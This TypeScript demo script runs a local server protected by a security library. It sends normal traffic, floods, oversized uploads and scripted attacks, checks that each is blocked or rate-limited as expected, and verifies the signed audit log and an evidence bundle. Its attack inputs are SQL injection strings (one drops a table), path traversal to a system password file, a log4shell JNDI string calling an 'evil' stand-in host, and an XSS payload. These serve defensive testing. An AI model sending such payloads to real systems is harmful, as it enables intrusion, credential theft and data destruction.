/**
 * Run it: `npm run demo`. Starts the example's server on a free port, sends it real traffic and real attacks, prints
 * what came back beside what was expected, and fails when anything differs. What was logged stays in a folder (`demo-log`,
 * or the one that TRACEHOUND_LOG names) with a bundle of one piece of evidence beside it: both can be checked afterwards.
 */
import { once } from 'node:events';
import { writeFile } from 'node:fs/promises';
import { Agent, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { serve } from '@hono/node-server';
import { parsePolicy, storeSource, verifyBundle, verifyLog } from 'tracehound/verify';
import { createApp } from './app.ts';
import { keepIn } from './keep.ts';

const folder = process.env.TRACEHOUND_LOG ?? 'demo-log';
const { audit, store } = await keepIn(folder);

/** Only a demo may believe a header about who is asking: anyone could write anything into it. */
const { app, th } = createApp({
  audit,
  source: (c) => {
    const key = c.req.header('x-demo-client');
    return key === undefined ? undefined : { key };
  },
});
const server = serve({ fetch: app.fetch, hostname: '127.0.0.1', port: 0 }) as Server;
await once(server, 'listening');
const { port } = server.address() as AddressInfo;
const agent = new Agent({ keepAlive: true, maxSockets: 8 });

interface Ask {
  client: string;
  /** Sent as it is: `fetch` would tidy up the very things that make it an attack. */
  path: string;
  method?: string;
  headers?: Record<string, string>;
  body?: string | Buffer;
}

/** The status of one real request. */
function send({ client, path, method = 'GET', headers = {}, body }: Ask): Promise<number> {
  const length = body === undefined ? {} : { 'content-length': Buffer.byteLength(body) };
  return new Promise((resolve, reject) => {
    const options = { port, host: '127.0.0.1', agent, method, path };
    const out = request({ ...options, headers: { 'x-demo-client': client, ...length, ...headers } }, (response) => {
      response.resume();
      response.on('end', () => resolve(response.statusCode as number));
      response.on('error', reject);
    });
    out.on('error', reject);
    out.end(body);
  });
}

interface Row {
  kind: string;
  sent: number;
  expected: string;
  got: string;
}

const rows: Row[] = [];
const byStatus = (statuses: readonly number[]): string => {
  const counts = new Map<number, number>();
  for (const status of statuses) counts.set(status, (counts.get(status) ?? 0) + 1);
  return [...counts]
    .sort(([a], [b]) => a - b)
    .map(([status, count]) => `${count} × ${status}`)
    .join(', ');
};

async function expectEach(kind: string, expected: string, asks: readonly Ask[]): Promise<void> {
  const statuses: number[] = [];
  for (const ask of asks) statuses.push(await send(ask));
  rows.push({ kind, sent: asks.length, expected, got: byStatus(statuses) });
}

const form = { 'content-type': 'application/x-www-form-urlencoded' };
const times = (count: number, make: (index: number) => Ask): Ask[] =>
  Array.from({ length: count }, (_, index) => make(index));
const quoted = (text: string): string => encodeURIComponent(text);

const ordinary = ['/', '/search?q=shoes', '/search?q=O%27Neill', '/login', '/files/terms.txt'];
await expectEach(
  'ordinary pages, 6 clients',
  '240 × 200',
  times(240, (index) => ({ client: `visitor-${index % 6}`, path: ordinary[index % 5] as string })),
);
await expectEach(
  'ordinary log-ins',
  '20 × 401',
  times(20, (index) => ({
    client: 'visitor-7',
    path: '/login',
    method: 'POST',
    headers: form,
    body: `user=ann${index}&password=x`,
  })),
);

const injections = ["' OR 1=1--", '1 UNION SELECT name, pass FROM users', "x'; DROP TABLE orders", '1 AND sleep(5)'];
await expectEach(
  'SQL injection in the query',
  '20 × 403',
  times(20, (index) => ({ client: 'sqlmap', path: `/search?n=${index}&q=${quoted(injections[index % 4] as string)}` })),
);
await expectEach(
  'SQL injection in a form',
  '10 × 403',
  times(10, (index) => ({
    client: 'sqlmap',
    path: '/login',
    method: 'POST',
    headers: form,
    body: `user=admin${index}'--&password=`,
  })),
);
await expectEach(
  'path traversal',
  '15 × 403',
  times(15, (index) => ({ client: 'crawler', path: `/files/${'../'.repeat(index + 1)}etc/passwd` })),
);
await expectEach(
  'path traversal, encoded twice',
  '5 × 403',
  times(5, (index) => ({ client: 'crawler', path: `/files/%252e%252e%252fetc${index}` })),
);
await expectEach(
  'log4shell in a header',
  '10 × 403',
  times(10, (index) => ({
    client: 'botnet',
    path: '/',
    headers: { 'user-agent': `\${jndi:ldap://evil-${index}.example/a}` },
  })),
);
await expectEach(
  'cross-site scripting',
  '10 × 403',
  times(10, (index) => ({ client: 'kiddie', path: `/search?q=${quoted(`<script>alert(${index})</script>`)}` })),
);
await expectEach(
  'the same attack again and again',
  '50 × 403',
  times(50, () => ({ client: 'repeat', path: "/search?q='%20OR%201=1--" })),
);
await expectEach(
  'a flood from one client',
  '100 × 200, 50 × 429',
  times(150, () => ({ client: 'flood', path: '/search?q=shoes' })),
);
await expectEach('an attack by a client over its limit', '1 × 429', [
  { client: 'flood', path: "/search?q='%20OR%201=1--" },
]);

const large = Buffer.alloc(5 * 1024 * 1024, 'x');
await expectEach('an upload of 5 MB', '1 × 200', [
  { client: 'visitor-8', path: '/files', method: 'POST', body: large },
]);
await expectEach('an attack with 5 MB behind it', '1 × 403', [
  { client: 'botnet', path: '/files?q=%27--', method: 'POST', body: large },
]);

// ── what is left of it ──────────────────────────────────────────────────────────────────────────────────────────────

await th.audit.flush();
const { bySeverity, count } = th.quarantine.stats;
const verified = th.audit.verify();
const held = th.quarantine.list({ limit: 1_000 });
const repeated = held.find((handle) => handle.seen > 1);
const severities = Object.entries(bySeverity)
  .map(([severity, items]) => `${items} ${severity}`)
  .join(', ');
const check = (kind: string, sent: number, expected: string, got: string): void =>
  void rows.push({ kind, sent, expected, got });
check('evidence by severity', count, '0 low, 10 medium, 52 high, 10 critical', severities);
check(
  'of which seen more than once',
  1,
  '1 held, seen 50 times',
  `${held.filter((handle) => handle.seen > 1).length} held, seen ${repeated?.seen} times`,
);
check('cut to the size that is kept', 1, '1 held', `${held.filter((handle) => handle.truncated).length} held`);
check('log recomputed from its records', verified.to, 'whole', verified.ok && verified.gaps === 0 ? 'whole' : 'broken');

// ── what an auditor would find ──────────────────────────────────────────────────────────────────────────────────────

const bundle = await th.quarantine.export((repeated as (typeof held)[0]).signature, {
  actor: 'demo',
  purpose: 'to show it',
});
await writeFile(`${folder}.bundle.json`, bundle);
agent.destroy();
server.close();
server.closeAllConnections();
await th.close();

const policy = parsePolicy(`log ${audit.signer?.vkey}\nquorum none\n`);
const now = Date.now();
const verdictOf = ({ integrity, authenticity, completeness }: Awaited<ReturnType<typeof verifyLog>>): string =>
  [integrity, authenticity, completeness].join(', ');
const stored = await verifyLog(storeSource(inStore(th.audit.head().origin)), { policy, now });
check('stored log: whole, ours, complete', stored.records, 'good, good, good', verdictOf(stored));
const proved = await verifyBundle(bundle, { policy });
check('one piece of evidence, by itself', 1, 'good, good', `${proved.integrity}, ${proved.authenticity}`);

/** The objects of one log in the store. */
function inStore(origin: string): (path: string) => Promise<Uint8Array | undefined> {
  return async (path) => store.get(`${origin}/${path}`);
}

const table = rows.map(({ kind, sent, expected, got }) => [
  kind,
  String(sent),
  expected,
  got,
  expected === got ? 'ok' : 'NOT OK',
]);
const head = ['kind', 'sent', 'expected', 'got', ''];
const widths = head.map((title, column) =>
  Math.max(title.length, ...table.map((row) => (row[column] as string).length)),
);
const line = (row: readonly string[]): string =>
  row
    .map((cell, column) => (column === 1 ? cell.padStart(widths[1] as number) : cell.padEnd(widths[column] as number)))
    .join('  ')
    .trimEnd();
console.log(`\n${[line(head), widths.map((width) => '─'.repeat(width)).join('  '), ...table.map(line)].join('\n')}\n`);

const { origin, size, root } = th.audit.head();
console.log(`log   ${origin}\nsize  ${size} records\nroot  ${root}\n`);
console.log(`Check it yourself:

  npx tracehound verify ${folder} --policy ${folder}.policy
  npx tracehound verify ${folder}.bundle.json --policy ${folder}.policy
  npx tracehound inspect ${folder} --severity critical
`);

const failed = rows.filter(({ expected, got }) => expected !== got);
for (const { kind, expected, got } of failed) console.error(`NOT OK  ${kind}: expected ${expected}, got ${got}`);
if (failed.length > 0) process.exitCode = 1;
else console.log('Everything came out as expected.');
